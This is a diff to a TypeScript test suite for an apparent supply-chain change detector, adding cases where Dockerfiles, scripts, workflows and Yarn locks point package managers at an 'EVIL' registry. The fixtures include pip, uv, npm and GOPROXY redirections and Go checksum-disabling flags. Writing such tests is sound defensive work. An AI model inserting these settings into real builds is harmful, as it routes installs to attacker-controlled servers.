@@ -24,6 +24,10 @@ const GO = 'module example.com/app\n\nrequire github.com/x/bar v1.0.0\n';
 const FORKED = `${GO}replace github.com/x/bar => github.com/evil/bar v1.0.1\n`;
 const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;
 
+const IMAGE = 'FROM scratch\n';
+const berry = (...resolutions: readonly string[]): string =>
+  `__metadata:\n  version: 8\n${resolutions.map((one) => `\n"${one}":\n  version: 1.0.0\n  resolution: "${one}"\n`).join('')}`;
+
 describe('a server that nothing in the base names', () => {
   it.each<[string, Files, Files, string[]]>([
     ['npm', {}, { '.npmrc': `registry=${EVIL}/\n` }, registry('.npmrc', 'registry')],
@@ -89,6 +93,77 @@ describe('a server that nothing in the base names', () => {
           LOCKS[0]?.write(['a', 'b', 'd', 'e', 'f'].map((hash) => ({ name: `p${hash}`, version: '1.0.0', hash, server: EVIL }))) ?? '',
       },
       registry('package-lock.json', 'pa, pb, pd and 2 more'),
+    ],
+    [
+      'ENV of an image',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\n` },
+      registry('Dockerfile', 'PIP_INDEX_URL'),
+    ],
+    [
+      'ARG of an image',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}ARG UV_INDEX_URL=${EVIL}/simple\n` },
+      registry('Dockerfile', 'UV_INDEX_URL'),
+    ],
+    [
+      'ENV of npm',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}ENV NPM_CONFIG_REGISTRY=${EVIL}/\n` },
+      registry('Dockerfile', 'NPM_CONFIG_REGISTRY'),
+    ],
+    [
+      'an option of pip, beside the variable',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\nRUN pip install -i ${EVIL}/simple numpy\n` },
+      registry('Dockerfile', 'PIP_INDEX_URL, -i'),
+    ],
+    [
+      'one index more of pip',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}RUN pip install --extra-index-url=${EVIL}/simple numpy\n` },
+      registry('Dockerfile', '--extra-index-url'),
+    ],
+    [
+      'an option of npm',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}RUN npm i --registry ${EVIL} left\n` },
+      registry('Dockerfile', '--registry'),
+    ],
+    [
+      'a setting of pip',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}RUN pip config set global.index-url ${EVIL}/simple\n` },
+      registry('Dockerfile', 'global.index-url'),
+    ],
+    ['a setting of npm in a script', {}, { 'setup.sh': `#!/bin/sh\nnpm config set registry=${EVIL}/\n` }, registry('setup.sh', 'registry')],
+    [
+      'a variable of a workflow',
+      {},
+      { '.github/workflows/release.yml': `on: push\nenv:\n  UV_INDEX_URL: ${EVIL}/simple\njobs: {}\n` },
+      registry('.github/workflows/release.yml', 'UV_INDEX_URL'),
+    ],
+    ['a proxy of Go', { Dockerfile: IMAGE }, { Dockerfile: `${IMAGE}ENV GOPROXY=${EVIL},direct\n` }, registry('Dockerfile', 'GOPROXY')],
+    [
+      'a proxy of Go, set for good',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}RUN go env -w GOPROXY=${EVIL}\n` },
+      registry('Dockerfile', 'GOPROXY'),
+    ],
+    [
+      'sums of Go',
+      { Dockerfile: IMAGE },
+      { Dockerfile: `${IMAGE}ENV GONOSUMDB=*\nENV GOPRIVATE='*.acme.example'\nENV GOFLAGS=-insecure\nENV GOSUMDB=off\n` },
+      hook(
+        'Dockerfile',
+        'GONOSUMDB is new: what only running it tells; GOPRIVATE is new: *.acme.example; GOFLAGS is new: -insecure; 1 more',
+      ),
+    ],
+    [
+      'one that an image names, and a line more',
+      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\n` },
+      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\nRUN pip install -i ${EVIL}/simple numpy\n`, '.npmrc': `registry=${EVIL}\n` },
+      [],
     ],
     ['the first lock', {}, { 'package-lock.json': LOCKS[0]?.write([{ name: 'left', version: '1.0.0' }]) ?? '' }, []],
     [
@@ -202,6 +277,12 @@ describe('what an installer runs, or exchanges', () => {
       ),
     ],
     ['yarnPath', {}, { '.yarnrc.yml': 'yarnPath: ./x.cjs\n' }, hook('.yarnrc.yml', 'yarnPath is new: ./x.cjs')],
+    [
+      'a patch in a lock of Yarn, beside one of its own',
+      { 'yarn.lock': berry() },
+      { 'yarn.lock': berry('bar@patch:bar@npm%3A1.0.0#./bar.patch', 'foo@patch:foo@npm%3A1.0.0#optional!builtin<compat/foo>') },
+      hook('yarn.lock', 'patch.bar is new: ./bar.patch'),
+    ],
     ['a plugin', {}, { '.yarnrc.yml': 'plugins:\n  - ./p.cjs\n' }, hook('.yarnrc.yml', 'plugins../p.cjs is new: ./p.cjs')],
     [
       'npm',
